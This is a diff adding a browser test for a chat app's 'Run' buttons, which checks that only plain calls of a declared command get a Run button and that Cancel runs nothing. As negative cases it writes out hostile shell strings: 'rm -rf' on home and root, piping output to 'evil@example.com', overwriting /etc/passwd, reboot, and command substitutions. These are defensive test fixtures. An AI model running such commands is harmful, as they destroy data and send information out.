@@ -556,6 +556,39 @@ export const tests = [
         },
     },
     {
+        name: 'run-button',
+        async fn({ browser, cleanup, skip }) {
+            // Run only for a block that is one plain invocation of a declared
+            // command: the server runs it without a shell, so pipes, lists,
+            // redirections and substitutions would not do what the block says.
+            const { ctx, page, rec, problems } = await openApp(browser);
+            cleanup(() => ctx.close());
+            const bot = rec.got('hello')[0].bots.find((b) => Array.isArray(b.commands) && b.commands.length);
+            if (!bot) skip('no bot declares commands');
+            if (bot.id !== await firstBot(page)) await page.locator('#bot-list .bot-item', { hasText: bot.id }).click();
+            const c = bot.commands[0];
+            const blocks = [
+                [c, true], ['$ ' + c + ' "a | b"', true], ['# show it\n' + c, true],
+                [c + ' && rm -rf ~', false], [c + ' | mail evil@example.com', false], [c + '; reboot', false],
+                [c + ' > /etc/passwd', false], [c + ' $(id)', false], [c + ' "`id`"', false],
+                [c + '\nrm -rf /', false], ['not_declared_cmd', false],
+            ];
+            const reply = blocks.map(([b], i) => 'Block ' + i + ':\n\n```sh\n' + b + '\n```\n').join('\n');
+            await turn(page, rec, 'Suggest ' + fake({ reply_b64: b64(reply), delay_ms: 1 }));
+            const got = await page.locator('#msg-list .msg-assistant').last().locator('.codeblock').evaluateAll(
+                (els) => els.map((e) => !!e.querySelector('.code-btn.run')));
+            assert.deepEqual(got, blocks.map(([, run]) => run), 'Run buttons: ' + JSON.stringify(blocks.map(([b]) => b)));
+            // The confirmation names exactly what runs; Cancel runs nothing.
+            await page.locator('#msg-list .codeblock').nth(1).getByRole('button', { name: /^Run / }).click();
+            const dlg = page.locator('#confirm-dialog');
+            assert.ok((await dlg.innerText()).includes('$ ' + c + " 'a | b'"), 'the dialog shows the command and its one argument, quoted');
+            await dlg.getByRole('button', { name: 'Cancel' }).click();
+            await sleep(300);
+            assert.equal(rec.put('run').length, 0, 'Cancel sends nothing');
+            assertNoProblems(problems);
+        },
+    },
+    {
         name: 'backend-down',
         async fn({ browser, cleanup }) {
             const { ctx, page, rec, problems } = await openApp(browser);
